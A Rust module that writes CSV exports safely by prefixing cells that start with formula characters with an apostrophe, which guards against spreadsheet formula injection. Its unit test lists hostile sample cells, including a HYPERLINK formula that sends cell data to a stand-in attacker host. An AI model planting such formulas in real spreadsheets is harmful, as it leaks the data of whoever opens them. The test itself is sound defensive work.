//! The one CSV writer for every CSV Roster emits (the inventory export, `roster identities
//! --format csv`, a campaign's evidence and tickets). A cell a spreadsheet would run as a formula
//! (one starting with `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's CSV injection
//! list) is written behind a `'`, so it opens as text. What a platform or a person typed is
//! data, never a formula; JSON exports keep the raw value.

use std::borrow::Cow;
use std::io::Write;

/// `v` as a spreadsheet will read it as text.
pub fn cell(v: &str) -> Cow<'_, str> {
    match v.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{v}")),
        _ => Cow::Borrowed(v),
    }
}

/// A CSV writer whose every cell goes through [`cell`].
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Self {
        CsvWriter {
            inner: csv::Writer::from_writer(out),
        }
    }

    pub fn write_row<I, S>(&mut self, row: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.inner
            .write_record(row.into_iter().map(|v| cell(v.as_ref()).into_owned()))
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.inner
            .into_inner()
            .map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))
    }
}

/// Rows written to a string: the exports built in memory.
pub fn to_string<R, I, S>(rows: R) -> Result<String, csv::Error>
where
    R: IntoIterator<Item = I>,
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    let mut w = CsvWriter::new(Vec::new());
    for row in rows {
        w.write_row(row)?;
    }
    let bytes = w.into_inner()?;
    String::from_utf8(bytes).map_err(|e| csv::Error::from(std::io::Error::other(e.to_string())))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_open_as_text_and_plain_values_are_untouched() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ];
        let plain = ["deploy-bot", "2026-12-03T00:00:00Z", "", "a=b", "0042"];
        let text = to_string([hostile.iter().chain(plain.iter())]).unwrap();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let row = r.records().next().unwrap().unwrap();
        for (i, v) in hostile.iter().enumerate() {
            assert_eq!(&row[i], format!("'{v}"), "neutralised");
        }
        for (i, v) in plain.iter().enumerate() {
            assert_eq!(&row[hostile.len() + i], *v, "kept as it was");
        }
    }
}
